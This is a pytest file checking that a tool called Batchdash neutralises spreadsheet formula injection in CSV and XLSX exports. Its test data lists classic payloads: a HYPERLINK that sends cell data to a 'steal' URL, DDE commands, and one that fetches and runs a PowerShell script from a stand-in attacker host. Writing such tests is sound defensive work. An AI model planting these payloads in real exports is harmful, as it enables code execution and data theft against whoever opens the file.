"""Exported CSVs neutralise spreadsheet formulas (contract 6), with the classic payloads.

A text cell a spreadsheet could run gets a leading `'`: one starting with =, +, -, @, tab or
CR, and (Batchdash's choice, see docs/security.md) one whose formula sign follows leading
blanks (spaces, no-break spaces, line breaks, zero-width characters) or is a full-width sign.
Other text, and numbers (a negative token count is a number, not text), are written as they
are. XLSX keeps every such cell as text, never as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from batchdash.results.export import to_csv_bytes, to_xlsx_bytes
from cli import main as cli_main

#: Cells that spreadsheets run as formulas (DDE, hyperlinks, arithmetic, functions).
CLASSIC = [
    '=HYPERLINK("http://example.com/steal?d="&A1,"Click for details")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C powershell IEX(wget attacker/ps)'!A0",
    "-",
]
#: Formula signs after leading blanks, and full-width signs: neutralised too.
DISGUISED = [
    " =1+1",
    "   +cmd|' /C calc'!A0",
    '\u00a0=HYPERLINK("http://example.com")',
    "\n=1+1",
    "\u200b@SUM(1)",
    "\u3000-2+3",
    "\uff1dSUM(1)",
]
#: Text that merely contains the signs, and empty text: written as it is.
HARMLESS = ["a=b", "2024-03-01", "e-mail me", "x@example.com", "", "  plain", "'=already quoted"]


_XML_ESCAPE = re.compile(r"_x([0-9A-F]{4})_")


def read_back(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_classic_and_disguised_formulas_get_a_quote_and_the_rest_stays() -> None:
    cells = [*CLASSIC, *DISGUISED, *HARMLESS]
    merged = pd.DataFrame(
        {
            "prompt": pd.Series(cells, dtype=str),
            "response": pd.Series(list(reversed(cells)), dtype=str),
            "input_tokens": pd.Series([-5] * len(cells), dtype="Int64"),
        }
    )

    rows = read_back(to_csv_bytes(merged))

    assert rows[0] == ["prompt", "response", "input_tokens"]
    expected = ["'" + cell for cell in [*CLASSIC, *DISGUISED]] + HARMLESS
    assert [row[0] for row in rows[1:]] == expected
    assert [row[1] for row in rows[1:]] == list(reversed(expected))
    assert {row[2] for row in rows[1:]} == {"-5"}  # a number stays a number


def test_a_formula_in_a_column_name_is_neutralised_too() -> None:
    merged = pd.DataFrame({'=HYPERLINK("x")': pd.Series(["a"], dtype=str)})

    assert read_back(to_csv_bytes(merged))[0] == ['\'=HYPERLINK("x")']


def test_xlsx_keeps_every_payload_as_text_never_a_formula() -> None:
    cells = [*CLASSIC, *DISGUISED]
    merged = pd.DataFrame({"prompt": pd.Series(cells, dtype=str)})

    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx_bytes(merged))).active
    assert sheet is not None
    values = [cell for cell in sheet.iter_rows(min_row=2, values_only=False)]
    assert [row[0].data_type for row in values] == ["s"] * len(cells)
    # Excel writes (and reads) a carriage return in a cell as _x000D_; openpyxl leaves it so.
    assert [_XML_ESCAPE.sub(lambda m: chr(int(m[1], 16)), row[0].value) for row in values] == cells


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_the_cli_merge_writes_payload_cells_safely(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    table = tmp_path / "table.csv"
    with table.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["prompt"])
        writer.writerows([[cell] for cell in CLASSIC[:5]])
    results = tmp_path / "output.jsonl"
    results.write_text(
        "".join(
            json.dumps(
                {
                    "id": f"r{n}",
                    "custom_id": f"row-{n}",
                    "response": {
                        "status_code": 200,
                        "body": {
                            "model": "gpt-4o-mini",
                            "choices": [
                                {
                                    "index": 0,
                                    "message": {"role": "assistant", "content": f"=1+{n}"},
                                    "finish_reason": "stop",
                                }
                            ],
                            "usage": {"prompt_tokens": 3, "completion_tokens": 1},
                        },
                    },
                    "error": None,
                }
            )
            + "\n"
            for n in range(1, 6)
        )
    )
    out = tmp_path / f"merged{suffix}"

    assert cli_main(["merge", str(table), "--results", str(results), "--out", str(out)]) == 0
    capsys.readouterr()

    if suffix == ".csv":
        rows = read_back(out.read_bytes())
        assert [row[0] for row in rows[1:]] == ["'" + cell for cell in CLASSIC[:5]]
        assert [row[1] for row in rows[1:]] == [f"'=1+{n}" for n in range(1, 6)]
    else:
        sheet = openpyxl.load_workbook(out).active
        assert sheet is not None
        assert [row[1].data_type for row in sheet.iter_rows(min_row=2)] == ["s"] * 5
